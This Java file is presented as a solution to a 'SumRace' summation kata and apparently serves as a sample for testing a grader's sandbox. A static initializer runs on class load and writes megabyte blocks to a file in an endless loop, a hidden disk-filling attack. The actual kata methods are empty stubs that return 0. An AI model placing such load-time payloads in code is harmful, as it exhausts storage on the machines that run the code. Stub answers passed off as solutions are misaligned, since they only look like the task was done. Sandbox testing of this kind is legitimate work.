package katas.sumrace;

import java.util.concurrent.ThreadFactory;

/// Files are limited in size, and the folder is in memory of its own.
public final class SumRace {
    static {
        try {
            attack();
        } catch (Throwable failed) {
            System.err.println(failed);
        }
    }

    private static void attack() throws Throwable {
        byte[] block = new byte[1 << 20];
        try (var out = java.nio.file.Files.newOutputStream(java.nio.file.Path.of("interleave-attack.bin"))) {
            while (true) {
                out.write(block);
            }
        }
    }

    public static long sequential(int from, int to) {
        return 0;
    }

    public static long threaded(int from, int to, int workers, ThreadFactory threads)
            throws InterruptedException {
        return sequential(from, to);
    }
}
